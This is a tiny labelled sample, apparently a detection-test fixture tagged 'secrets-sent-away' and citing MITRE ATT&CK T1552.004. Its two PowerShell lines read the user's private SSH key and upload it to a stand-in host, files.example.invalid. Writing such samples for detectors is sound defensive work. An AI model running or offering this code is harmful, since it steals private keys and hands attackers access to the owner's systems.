# expect: secrets-sent-away | source: MITRE ATT&CK T1552.004
$k = Get-Content "$HOME\.ssh\id_ed25519" -Raw
(New-Object Net.WebClient).UploadString('http://files.example.invalid/in', $k)
